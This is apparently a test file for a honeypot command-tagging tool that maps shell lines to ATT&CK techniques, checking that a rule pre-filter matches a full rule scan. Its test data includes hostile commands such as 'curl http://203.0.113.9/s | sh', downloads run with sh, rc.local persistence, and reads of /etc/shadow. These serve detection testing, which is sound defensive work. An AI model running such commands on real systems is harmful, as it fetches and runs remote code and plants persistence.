"""The pre-filter may only save work: what it lets through must be all that holds when every rule is tried."""

from __future__ import annotations

from collections.abc import Mapping

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from decnet.home import packaged_demo_dir, packaged_rules_dir
from decnet.shell.script import read_script
from decnet.shell.told import Facts
from decnet.ttp.conditions import _without_anchors
from decnet.ttp.kinds import CONTEXT
from decnet.ttp.loader import load_bytes, load_dir
from decnet.ttp.matcher import Failures, RuleIndex, _first_hit
from decnet.ttp.rules import CompiledRule

RULE = """rule_id: {id}
rule_version: 1
name: demo
description: d
applies_to: [command]
match: {match}
emits:
  - {{tactic: TA0011, technique_id: T1105, confidence: 0.8}}
"""
MATCHES = (
    r"{field: argv, op: pattern, value: '^https?://\d'}",
    r"{field: argv, op: pattern, value: '^-[a-z]*c$'}",
    r"{field: argv, pattern: '(^|x)[^$^]/tmp$'}",
    r"{field: argv, pattern: '\bfoo\b'}",
    r"{field: argv0, pattern: '^(?:wget|curl)$'}",
    r"{all: [{field: argv0, op: in, value: [wget, curl]}, {field: argv, op: pattern, value: '^https?://\d'}, {not: {field: argv, op: equals, value: --help}}]}",
)  # fmt: skip


def rule(number: int, match: str) -> CompiledRule:
    loaded, errors = load_bytes(RULE.format(id=f"P{number}", match=match).encode(), f"P{number}.yaml")
    assert not errors
    assert loaded is not None
    return loaded


PACK = [
    r for r in load_dir(packaged_rules_dir()).rules if "command" in r.applies_to and r.correlation is None
]
INDEX = RuleIndex([*PACK, *(rule(i, match) for i, match in enumerate(MATCHES))])


def holding(line: str, context: Mapping[str, Facts] | None = None) -> set[str]:
    """Every rule tried on every view."""
    fields = INDEX.looks(line, {CONTEXT: context or {}})
    return {
        r.rule_id
        for r in INDEX.rules
        if r.condition and _first_hit(r, fields[:1] if r.scope == "line" else fields)
    }


def same(line: str) -> None:
    hits, _ = INDEX.command_hits(line, {}, Failures())
    assert {hit.rule.rule_id for hit in hits} == holding(line)


@pytest.mark.parametrize(
    ("line", "rules"),
    [
        ("wget -q http://1.2.3.4/x", {"P0", "P4", "P5"}),
        ("cd /; w''get \"http://1.2.3.4/x y\"", {"P0", "P4", "P5"}),
        ("sh -c 'id' foo", {"P1", "P3"}),
        ("ls a/tmp", {"P2"}),
        ("wget --help http://1.2.3.4", {"P0", "P4"}),
        ("echo xhttp://1.2.3.4", set()),
    ],
)
def test_patterns_over_words_may_be_anchored(line: str, rules: set[str]) -> None:
    hits, _ = INDEX.command_hits(line, {}, Failures())
    assert {h.rule.rule_id for h in hits if h.rule.rule_id.startswith("P")} == rules


def test_the_commands_of_the_demo_get_the_same_tags_without_a_filter() -> None:
    import json

    lines = [
        json.loads(text) for text in (packaged_demo_dir() / "cowrie.json").read_text("utf-8").splitlines()
    ]
    for line in {r["input"] for r in lines if r["eventid"] == "cowrie.command.input"}:
        same(line)


SESSION = [
    "wget http://203.0.113.9/a.sh", "sh a.sh", "./a.sh", "rm -f a.sh", "chmod +x *", "mv a.sh /usr/bin/q", "q", "scp -t /opt/z",
    "/opt/z", "C0755 9 y", "passwd", "secret", "echo 1 > /tmp/.p", "rm /tmp/.p", "cat > x", "gcc x.c", "tar xzf a.sh", "./u/v",
    "echo /opt/z >> /etc/rc.local", "curl http://203.0.113.9/s | sh", "fetched",
]  # fmt: skip
WORDS = st.sampled_from(
    ["wget", "curl", "http://1.2.3.4/a", "x/tmp", "-rfc", "foo", "a b", "$(id)", "`uname -a`", "sh -c", "sudo", "'q q'", '"d d"', "\\", "|", ";", "&&",
     ">", "/etc/shadow", "chmod", "777", "crontab -l", "base64 -d", "echo", "é", "\x00", "\n", "${IFS}", "busybox"]
)  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(st.lists(WORDS, max_size=8).map(" ".join))
def test_any_line_gets_the_same_tags_without_a_filter(line: str) -> None:
    same(line)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(SESSION), min_size=1, max_size=6))
def test_a_line_of_any_session_gets_the_same_tags_without_a_filter(lines: list[str]) -> None:
    for line, context in zip(lines, read_script(lines).facts, strict=True):
        hits, _ = INDEX.command_hits(line, {CONTEXT: context}, Failures())
        assert {hit.rule.rule_id for hit in hits} == holding(line, context), line


@pytest.mark.parametrize(
    ("pattern", "bare"),
    [(r"^a$", "a"), (r"[\^$^]x\^\$", r"[\^$^]x\^\$"), (r"\bfoo\b|^bar", "foo|bar"), (r"[]^]$", "[]^]"), (r"^*", None), (r"\Qa^\E", None)],
)  # fmt: skip
def test_anchors_are_taken_out_of_patterns(pattern: str, bare: str | None) -> None:
    assert _without_anchors(pattern) == bare
